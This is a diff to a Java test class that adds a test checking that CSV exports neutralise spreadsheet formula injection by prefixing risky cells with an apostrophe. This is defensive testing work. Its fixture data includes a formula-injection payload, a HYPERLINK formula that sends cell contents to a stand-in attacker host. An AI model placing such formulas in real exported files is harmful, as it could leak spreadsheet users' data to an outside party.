@@ -48,6 +48,39 @@ class CsvExportTest {
     }
 
     @Test
+    void textCellsThatASpreadsheetWouldRunAsAFormulaGetALeadingApostropheAsInTheApisCsv() throws Exception {
+        ExportFixture export = new ExportFixture(dir, "csv");
+        export.start();
+        export.now = Instant.parse("2026-11-02T12:00:00Z");
+        List<String> formulas = List.of("=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")", "+1", "-2", "@x", "\tx", "\rx");
+        for (int i = 0; i < formulas.size(); i++) {
+            export.row("2026-11-02T10:00:00Z", formulas.get(i), "email", formulas.get((i + 1) % formulas.size()), 3);
+        }
+        export.commit();
+
+        List<CSVRecord> rows = new java.util.ArrayList<>();
+        try (Stream<Path> files = Files.walk(dir.resolve("format=csv"))) {
+            for (Path file : files.filter(p -> p.toString().endsWith(".csv")).toList()) {
+                try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8);
+                     CSVParser parser = CSVParser.parse(in, CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
+                    rows.addAll(parser.getRecords());
+                }
+            }
+        }
+        assertThat(rows).hasSize(formulas.size());
+        for (CSVRecord row : rows) {
+            assertThat(row.get("department")).startsWith("'");
+            assertThat(formulas).contains(row.get("department").substring(1));
+            assertThat(row.get("agent")).startsWith("'");
+            assertThat(formulas).contains(row.get("agent").substring(1));
+            assertThat(row.get("channel")).isEqualTo("email");
+            assertThat(row.get("replies")).isEqualTo("3");
+            assertThat(row.get("bucket")).isEqualTo("2026-11-02T10:00:00Z");
+        }
+        assertThat(rows).extracting(r -> r.get("department").substring(1)).containsExactlyInAnyOrderElementsOf(formulas);
+    }
+
+    @Test
     void duckDbReadsTheCsvDatasetWithItsPartitions() throws Exception {
         ExportFixture export = new ExportFixture(dir, "csv");
         export.start();
